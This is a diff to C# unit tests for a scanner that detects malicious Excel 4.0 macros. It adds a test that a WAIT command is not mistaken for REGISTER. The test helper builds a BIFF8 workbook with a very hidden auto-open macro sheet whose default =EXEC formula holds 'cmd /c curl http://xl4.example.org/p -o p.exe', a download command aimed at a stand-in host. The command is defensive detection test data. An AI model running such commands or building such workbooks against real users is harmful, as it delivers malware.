@@ -32,12 +32,22 @@ public sealed class XlmScannerTests
         Assert.Contains(report.Nodes[0].Iocs, i => i.Kind == IndicatorKind.Url && i.Value == "http://xl4.example.org/p");
     }
 
+    [Fact]
+    public async Task A_macro_command_numbered_like_a_dangerous_function_is_not_taken_for_it()
+    {
+        // WAIT(1) is macro command 0x95 (fCeFunc set); function 0x95 would be REGISTER.
+        var report = await TestEngine.Default.AnalyseAsync(Workbook([0x1E, 1, 0, 0x42, 0x01, 0x95, 0x80]), "wait.xls");
+
+        Assert.Contains(report.Nodes[0].Findings, f => f.Id == "xlm-auto-open");
+        Assert.DoesNotContain(report.Nodes[0].Findings, f => f.Id is "xlm-auto-exec-payload" or "xlm-execute");
+    }
+
     /// <summary>A BIFF8 workbook: globals (BOF, a very hidden macro sheet, a built-in Auto_Open name, EOF), then the
-    /// macro sheet with one formula =EXEC("...").</summary>
-    private static byte[] Workbook()
+    /// macro sheet with one formula, by default =EXEC("...").</summary>
+    private static byte[] Workbook(byte[]? tokens = null)
     {
         const string Command = "cmd /c curl http://xl4.example.org/p -o p.exe";
-        byte[] rgce = [0x17, (byte)Command.Length, 0x00, .. Encoding.ASCII.GetBytes(Command), 0x42, 0x01, 110, 0x00];
+        var rgce = tokens ?? [0x17, (byte)Command.Length, 0x00, .. Encoding.ASCII.GetBytes(Command), 0x42, 0x01, 110, 0x00];
         byte[] formula = [0, 0, 0, 0, 0x0F, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, (byte)rgce.Length, 0, .. rgce];
         byte[] label = [0x20, 0, 0, 1, 0x07, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0x00, 0x01, 0x3A, 0, 0, 0, 0, 0, 0];
         byte[] bof = [0x00, 0x06, 0x05, 0x00, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
